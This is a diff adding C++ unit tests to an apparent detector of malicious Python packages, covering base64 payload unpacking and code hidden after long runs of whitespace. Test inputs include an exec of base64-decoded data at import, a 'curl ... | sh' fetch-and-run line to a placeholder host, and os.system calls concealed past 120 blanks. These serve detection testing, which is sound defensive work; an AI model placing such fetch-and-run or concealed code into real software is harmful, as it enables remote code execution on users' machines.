@@ -84,6 +84,26 @@ TEST(Payloads, ExecOfBase64IsDecodedAndJudged) {
                 "exec-decoded", Severity::kCritical);
 }
 
+TEST(Payloads, UnpackOffLeavesPayloadsEncoded) {
+  // The switch scan_bench measures unpacking with: nothing is decoded, folded
+  // through a decoder or unwrapped blind, and the rest of the pass still runs.
+  PythonEngines off = Rules().python_engines();
+  off.unpack = false;
+  std::string code = std::string("import base64, os\nexec(base64.b64decode('") + kB64 +
+                     "'))\nx = '" + kB64 + "'\nos.system('curl http://example.invalid/x | sh')\n";
+  PythonSource src;
+  src.path = "pkg/__init__.py";
+  src.text = code;
+  src.phase = Phase::kImport;
+  std::vector<Finding> fs;
+  AnalyzePython(off, src, &fs);
+  EXPECT_EQ(Find(fs, "payload-decoded"), nullptr) << Rules(fs);
+  EXPECT_EQ(Find(fs, "exec-decoded"), nullptr) << Rules(fs);
+  for (const Finding& f : fs) EXPECT_EQ(f.file, "pkg/__init__.py") << f.rule;
+  EXPECT_NE(Find(fs, "process-at-import"), nullptr) << Rules(fs);
+  EXPECT_NE(Find(Analyze(code), "payload-decoded"), nullptr);
+}
+
 TEST(Payloads, AliasesAndBuiltinsLookups) {
   ExpectFinding(std::string("from base64 import b64decode as d\ne = eval\nexec(d('") + kB64 + "'))\n",
                 "download-exec");
@@ -456,6 +476,28 @@ TEST(Concealment, CodePushedRight) {
   std::string code = "import os\nx = 1" + std::string(300, ' ') + ";os.system('id')\n";
   ExpectFinding(code, "code-after-spaces", Severity::kCritical);
   ExpectNoFinding("def f():\n" + std::string(150, ' ') + "return 1\n", "code-after-spaces");
+}
+
+TEST(Concealment, CodeAfterSpacesRunLengthsAndEnds) {
+  // The run must be 120 blanks (spaces or tabs) long, follow something and
+  // be followed by code, not a comment or a continuation; the column
+  // reported is the length of the first such run.
+  auto pushed = [](const std::string& line) -> std::string {
+    auto fs = Analyze("x = 1\n" + line + "\n");
+    const Finding* f = Find(fs, "code-after-spaces");
+    return f ? f->message.substr(0, f->message.find(" columns")) : "";
+  };
+  std::string b119(119, ' '), b120(120, ' ');
+  EXPECT_EQ(pushed("x = 1" + b119 + ";y()"), "");
+  EXPECT_EQ(pushed("x = 1" + b120 + ";y()"), "code is pushed 120");
+  EXPECT_EQ(pushed("x = 1" + std::string(60, ' ') + "\t\t" + std::string(58, ' ') + ";y()"),
+            "code is pushed 120");
+  EXPECT_EQ(pushed("x = 1" + b120), "");
+  EXPECT_EQ(pushed("x = 1" + b120 + "# note" + b119 + "z" + b120 + "\t;y()"),
+            "code is pushed 121");
+  EXPECT_EQ(pushed(b120 + "y()" + std::string(130, ' ') + ";z()"), "code is pushed 130");
+  EXPECT_EQ(pushed("a" + std::string(60, ' ') + "b" + std::string(200, ' ') + "c"),
+            "code is pushed 200");
 }
 
 TEST(Concealment, InvisibleAndMixedScriptIdentifiers) {
